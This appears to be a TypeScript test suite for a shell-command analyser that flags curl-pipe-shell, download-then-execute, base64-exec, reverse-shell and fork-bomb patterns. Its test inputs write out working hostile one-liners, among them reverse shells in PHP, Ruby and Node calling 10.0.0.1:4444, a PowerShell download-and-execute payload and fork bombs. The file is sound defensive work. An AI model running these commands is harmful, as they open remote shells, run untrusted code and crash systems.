import { describe, expect, it } from 'vitest';
import { flowBehaviours } from './flow-behaviours.ts';
import { parseShell } from './shell.ts';

const of = (command: string) => flowBehaviours(parseShell(command)).sort();

describe('flowBehaviours', () => {
  it('needs the download to reach an interpreter as code', () => {
    expect(of('curl -s https://x.example | gunzip | sh')).toEqual(['curl-pipe-shell']);
    expect(of('curl -s https://x.example | grep x | sh')).toEqual([]);
    expect(of('curl -s https://x.example | python3 script.py')).toEqual([]);
    expect(of('wget -O - https://x.example | bash')).toEqual(['curl-pipe-shell']);
    expect(of('wget -O /tmp/x https://x.example | bash')).toEqual([]);
  });

  it('matches produced files to runs by name, and only after they are produced', () => {
    expect(of('curl -o x.sh https://x.example/x.sh && sh ./x.sh')).toEqual(['download-exec']);
    expect(of('wget -P /tmp https://x.example/tool && /tmp/tool')).toEqual(['download-exec']);
    expect(of('aria2c -o run.bin https://x.example/r && chmod u+x run.bin')).toEqual(['download-exec']);
    expect(of('./tool; curl -o tool https://x.example/tool')).toEqual([]);
    expect(of('curl -o data.json https://x.example && chmod 644 data.json')).toEqual([]);
    expect(of('base64 -d -o payload.sh <<< ZWNobyBoaQ== && bash payload.sh')).toEqual(['base64-exec']);
  });

  it('sees reverse shells in pipelines and code', () => {
    expect(of('telnet 203.0.113.5 80 | /bin/bash | telnet 203.0.113.5 81')).toEqual(['reverse-shell']);
    expect(of('openssl s_client -quiet -connect h:443 | /bin/sh -i')).toEqual(['reverse-shell']);
    expect(of(`php -r '$s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3");'`)).toEqual([
      'reverse-shell',
    ]);
    expect(of(`ruby -rsocket -e 'c=TCPSocket.new("10.0.0.1",4444);exec("/bin/sh -i <&5")'`)).toEqual([
      'reverse-shell',
    ]);
    expect(
      of(
        `node -e "var n=require('net'),c=require('child_process');var s=new n.Socket();s.connect(4444,'10.0.0.1',()=>{var sh=c.spawn('/bin/sh')})"`,
      ),
    ).toEqual(['reverse-shell']);
    expect(of('nc -l 8080 < index.html')).toEqual([]);
  });

  it('sees downloads and base64 executed inside interpreter code', () => {
    expect(
      of(`python3 -c "import urllib.request as u; exec(u.urlopen('https://x.example/p').read())"`),
    ).toEqual(['curl-pipe-shell']);
    const ps = Buffer.from("IEX (New-Object Net.WebClient).DownloadString('http://x')", 'utf16le').toString(
      'base64',
    );
    expect(of(`powershell -enc ${ps}`)).toEqual(['base64-exec', 'curl-pipe-shell']);
    expect(of(`node -e "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString())"`)).toEqual([
      'base64-exec',
    ]);
    expect(of('python3 -c "import base64; print(base64.b64decode(x))"')).toEqual([]);
  });

  it('spots fork bombs by shape', () => {
    expect(of(':(){ :|:& };:')).toEqual(['fork-bomb']);
    expect(of('python3 -c "import os\nwhile True: os.fork()"')).toEqual(['fork-bomb']);
    expect(of('f(){ f; }; f')).toEqual([]);
  });
});
